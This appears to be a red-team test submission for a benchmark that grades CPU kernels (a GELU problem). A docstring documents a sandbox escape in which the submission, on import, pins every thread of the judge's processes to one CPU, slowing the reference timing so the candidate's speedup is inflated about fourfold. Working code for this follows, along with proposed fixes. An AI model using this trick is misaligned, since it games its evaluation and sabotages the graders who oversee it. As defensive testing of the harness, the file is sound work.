"""At the process level, graded by a user who is not root (the sandbox runs as that user's uid), at import: walks up
from its first process (os.getppid()) through its ancestors of its own uid (the judge's spawner, the judge, its
worker) and pins every thread of each to CPU 0 with sched_setaffinity. A process may set the affinity (and the nice
value, and SCHED_IDLE: /tmp/rt48/idle2.py) of any process of its own uid; Landlock's ABI 6 scope holds signals and
abstract sockets, not the scheduler's calls, and the seccomp filter refuses none of sched_setaffinity, setpriority or
sched_setscheduler. Threads the judge makes later inherit the mask. On a CPU grading the judge times its reference with
torch.set_num_threads(cpu_threads()), half the cores, now all on one core; the candidate keeps every core. Computes the
right GELU.
Problem: v3/level1/26_GELU_
Verdict: ok (its speedup multiplied by about the judge's thread count)
Device: cpu
Observed (red team 48, /tmp/rt48/affinity.py: tests/test_sandbox_user._as_a_user, uid 61470, a process sandbox whose
server pinned its judge's 2 threads; the judge then timed torch GELU on 4M floats with 2 threads, in a pause of the
whole tree by signal_tree, 30 calls a pause, 2-core host): median 1.87-2.06 ms a call unpinned, 8.00-8.42 ms pinned
(4.2x), in 2 runs of each; "judge_threads_affinity": ["[0]"]. Not run through a full `kb eval` grading (the judge's
real ancestry, spawner then judge, is walked here; the test's judge was the first process's parent).
Expected once fixed: ok at the honest speedup: the judge restores its own affinity (and nice value and scheduling
class) before every timed reference batch, or the sandbox cannot reach them (a uid of its own for a user's sandbox is
not to be had; a cgroup cpuset, or checking sched_getaffinity/getpriority/sched_getscheduler of the judge's threads
around each reference batch and refusing the grading, check_failed, when they changed).
"""
import math
import os

import torch
import torch.nn as nn


def _stat(pid):
    with open(f"/proc/{pid}/stat") as f:
        return f.read().rsplit(")", 1)[1].split()


def _pin_the_ancestors():
    me, pid, done = os.getuid(), os.getppid(), []
    for _ in range(5):
        try:
            pid = int(_stat(pid)[1])  # the parent of the last one: the spawner, the judge, its worker
            if pid <= 1 or os.stat(f"/proc/{pid}").st_uid != me:
                break
            for t in os.listdir(f"/proc/{pid}/task"):
                try:
                    os.sched_setaffinity(int(t), {0})
                    done.append(int(t))
                except OSError:
                    pass
        except (OSError, ValueError, IndexError):
            break
    print(f"rt48: pinned {len(done)} threads of the judge's ancestry to CPU 0", flush=True)


_pin_the_ancestors()


class Model(nn.Module):
    def forward(self, x):
        return 0.5 * x * (1.0 + torch.erf(x * (1.0 / math.sqrt(2.0))))
